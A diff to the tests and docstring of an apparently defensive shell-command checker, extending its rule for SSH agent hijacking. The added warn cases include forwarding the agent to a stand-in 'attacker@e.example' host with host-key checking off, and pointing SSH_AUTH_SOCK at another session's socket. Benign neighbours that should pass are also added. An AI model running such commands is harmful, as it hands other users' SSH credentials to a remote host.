@@ -19,9 +19,11 @@
 * Interpreter code: Emacs ``--eval`` fetching Lisp and evaluating it, Julia
   ``download`` + ``include`` and ``pipeline(`a`, `b`)``, awk ``print | c`` with ``c`` a
   constant (``-v c=sh``), PowerShell ``Start-Process sh -ArgumentList "-c","..."``.
-* ssh agents (``shell.ssh-agent``, warn): ``SSH_AUTH_SOCK`` pointed at a socket found under
-  /tmp (or searched for), ``socat`` relaying the agent (block to a network listener), ``ssh
-  -A`` to a host whose key is not checked. The session's own agent passes.
+* ssh agents (``shell.ssh-agent``, warn): ``SSH_AUTH_SOCK`` pointed at another session's
+  socket (``/tmp/ssh-X/agent.PID``, launchd's, or searched for: ``ls``/``find``/glob); a
+  socket an agent starts for itself (``ssh-agent -a /tmp/ci.sock``) passes; ``socat``
+  relaying the agent (block to a network listener), ``ssh -A`` to a host whose key is not
+  checked. The session's own agent passes.
 """
 
 from __future__ import annotations
@@ -132,6 +134,8 @@ def test_remote_rendered_manifests_applied_warn(command: str) -> None:
     "ssh -A -o StrictHostKeyChecking=no attacker@e.example",
     "ssh -o ForwardAgent=yes -o UserKnownHostsFile=/dev/null root@10.0.0.5",
     "ssh -o IdentityAgent=/tmp/ssh-X/agent.1 prod",
+    "ssh -A attacker@e.example -o StrictHostKeyChecking=no",
+    "export SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.abc/Listeners",
 ])
 def test_other_sessions_agent_warns(command: str) -> None:
     assert_verdict(command, Verdict.WARN, "shell.ssh-agent")
@@ -208,6 +212,10 @@ def test_agent_relayed_to_network_listener_blocks() -> None:
     "export SSH_AUTH_SOCK=$(gpgconf --list-dirs agent-ssh-socket)",
     "SSH_AUTH_SOCK=$HOME/.ssh/agent.sock ssh-add -l",
     "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
+    "ssh host ls -A -o StrictHostKeyChecking=no",
+    "export SSH_AUTH_SOCK=/tmp/ssh_agent.sock; ssh-agent -a $SSH_AUTH_SOCK > /dev/null",
+    "ssh -o IdentityAgent=~/.1password/agent.sock prod",
+    "ln -s /usr/bin/python3 venv/bin/python && python -m pytest",
 ])
 def test_everyday_neighbours_pass(command: str) -> None:
     assert_verdict(command, Verdict.PASS)
